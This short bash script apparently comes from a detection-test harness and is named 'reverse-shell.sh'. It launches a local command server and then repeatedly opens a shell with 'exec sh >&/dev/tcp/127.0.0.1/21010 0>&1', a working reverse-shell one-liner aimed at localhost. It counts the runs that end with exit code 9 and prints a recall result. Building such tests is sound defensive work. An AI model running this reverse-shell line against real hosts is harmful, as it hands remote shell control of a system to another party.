# A shell whose input and output are a connection.
tag=$1 n=$2 done=0
exec 4< <(exec python3 "${0%/*}/command-server.py" "server-$tag" 21010)
server=$!
read -r -u 4
for ((i = 0; i < n; i++)); do
  bash -c 'exec sh >&/dev/tcp/127.0.0.1/21010 0>&1' "$tag-$i"
  [ $? = 9 ] && done=$((done + 1))
done
kill "$server"
wait "$server"
echo "RECALL {\"case\":\"reverse-shell.sh\",\"tag\":\"$tag\",\"n\":$n,\"done\":$done}"
